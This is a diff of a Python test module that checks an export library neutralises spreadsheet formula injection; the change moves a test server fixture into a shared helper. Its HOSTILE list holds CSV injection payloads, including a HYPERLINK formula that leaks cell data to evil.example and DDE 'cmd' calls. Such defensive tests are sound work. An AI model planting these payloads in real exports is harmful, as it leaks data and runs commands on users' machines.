@@ -12,19 +12,16 @@ import io
 import os
 import subprocess
 import sys
-import threading
-import time
 import zipfile
 
-import httpx
 import pandas as pd
 import pyarrow as pa
 import pytest
 from openpyxl import load_workbook
 
 from imdx.exports import neutralise, safe_frame, safe_table
-from tests.api.conftest import free_port
 from tests.bombs import REPO
+from tests.served import served
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 HOSTILE = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
@@ -70,22 +67,8 @@ def store(tmp_path_factory, mirror):
 @pytest.fixture(scope="module")
 def http(store):
     """The app `imdx serve` runs (API, SDMX and portal), over HTTP on a free loopback port."""
-    import uvicorn
-
-    from imdx.api.app import create_app
-
-    port = free_port()
-    server = uvicorn.Server(uvicorn.Config(create_app(store), host="127.0.0.1", port=port, log_level="warning"))
-    thread = threading.Thread(target=server.run, daemon=True)
-    thread.start()
-    deadline = time.monotonic() + 60
-    while not server.started:
-        assert thread.is_alive() and time.monotonic() < deadline, "the server did not start"
-        time.sleep(0.05)
-    with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=60) as client:
+    with served(store) as client:
         yield client
-    server.should_exit = True
-    thread.join(timeout=10)
 
 
 def _check_csv_cells(rows: list[dict], code: str, value: str) -> None:
